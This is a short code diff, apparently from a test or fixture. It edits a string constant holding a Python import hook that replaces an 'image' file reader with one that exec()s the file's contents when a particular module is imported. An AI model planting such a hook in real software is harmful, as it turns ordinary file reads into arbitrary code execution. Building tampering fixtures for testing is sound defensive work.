@@ -5,6 +5,7 @@ from pathlib import Path
 
 HOOK = """
 import sys
+from dataclasses import replace
 class Finder:
     def find_spec(self, name, path=None, target=None):
         if name == "opensearch.domains.worker":
@@ -14,7 +15,8 @@ class Finder:
                 def read(path, part=None, up=None):
                     exec(path.read_text())
                 return read
-            room.READERS["image"] = reader
+            spoiled = replace(room.READERS["image"], open=reader)
+            room.READERS["image"] = spoiled
 sys.meta_path.insert(0, Finder())
 """
 
